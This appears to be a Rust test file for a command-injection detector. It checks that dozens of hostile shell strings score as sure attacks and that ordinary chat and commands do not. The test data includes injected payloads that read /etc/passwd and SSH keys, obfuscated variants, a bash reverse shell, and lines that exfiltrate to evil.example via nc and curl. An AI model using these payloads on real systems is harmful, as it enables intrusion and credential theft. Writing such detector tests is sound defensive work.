use super::super::SURE;
use super::judge;

fn strength(text: &str) -> u8 {
    judge(text.as_bytes()).map_or(0, |hit| hit.strength)
}

#[test]
fn injected_commands_are_sure() {
    for text in [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "$(sleep 5)",
        "`id`",
        "127.0.0.1; ls -la",
        "127.0.0.1 && ls /etc",
        "x'; wget http://evil.example/x.sh",
        "; c'a't /etc/passwd",
        ";cat$IFS/etc/passwd",
        "cat${IFS}/etc/passwd",
        "; cat /et?/pa?swd",
        "/???/??t /???/p??s??",
        "cat ${HOME:0:1}etc${HOME:0:1}passwd",
        "echo aWQ= | base64 -d | sh",
        "{cat,/etc/passwd}",
        "() { :;}; /bin/sh -c \"id\"",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "& for /f \"delims=\" %i in ('cmd /c whoami') do @echo %i",
        "who`echo am`i",
        "cmd=cat /etc/passwd",
        "| type %SYSTEMROOT%\\repair\\SAM",
        "%COMSPEC:~0,1%d",
    ] {
        assert!(strength(text) >= SURE, "{text}: {:?}", judge(text.as_bytes()));
    }
}

#[test]
fn commands_people_talk_about_are_not() {
    for text in [
        "run apt-get install foo; then reboot",
        "I'd like that, isn't it",
        "no, it's fine; dinner's at Ann's place",
        "sorry; what's at stake's clear",
        "I'd like 'this' or that, whichever is cheaper",
        "that's all I know\nI'd say\nit's fine",
        "sudo apt-get update && sudo apt-get upgrade",
        "ls -al /usr/share/nginx/html/",
        "gzip -cd filename.tgz | tar xvf -",
        "!topic | colin_",
        "sudo apt-get install linux-headers-$(uname -r)",
        "what does `ls -l` show you",
        "is there a cat; who knows",
        "R&D; time is short",
        "mount 127.0.0.1:/test /testmnt",
        "did you edit /etc/fstab?",
        "a & b | c",
        "for (let i = 1; i <= 100; i++) { id = 3; }",
        "if n == 0: return 1",
        "$(document).ready(function() {})",
        "it's $5; or 6",
        "`ls -la` did it for me",
        "`file`, `move`, `photos` and so on",
        "\"file\", \"move\", \"friends\" and so on",
        "'mail', 'like', 'tickets' and so on",
        "look there; fish 'n' chips are bad",
        "| file | head |\n|---|---|\n| 3 | 2 |",
        "jrib : so all I need to do is edit /etc/fstab ?",
    ] {
        assert!(strength(text) < SURE, "{text}: {:?}", judge(text.as_bytes()));
    }
}

#[test]
fn what_is_read_and_sent_away_is_an_attack_behind_prose_too() {
    let prose = "we went down to the river and it was a fine day ";
    for text in ["; cat /etc/passwd | nc evil 4444", "&& cat ~/.ssh/id_rsa | base64 | curl -d @- http://evil.example"] {
        assert!(strength(&(prose.repeat(3) + text)) >= SURE, "{text}");
    }
    for text in ["; cat notes.txt | nc evil 4444", "; cat /etc/passwd; nc -l 4444", "; cat /etc/passwd | grep me"] {
        assert!(strength(&(prose.repeat(3) + text)) < SURE, "{text}");
    }
}

#[test]
fn a_name_glued_to_control_characters_is_no_command() {
    for text in ["\n(\u{2}at\u{12}\"* \n", "x; id\u{e}", "; \u{1f}id", "&\u{1a}$All more"] {
        assert!(strength(text) < SURE, "{text:?}: {:?}", judge(text.as_bytes()));
    }
    for text in ["; id\0", "; \0id", ";\u{b}id", "; id\u{c}"] {
        assert!(strength(text) >= SURE, "{text:?}: {:?}", judge(text.as_bytes()));
    }
}
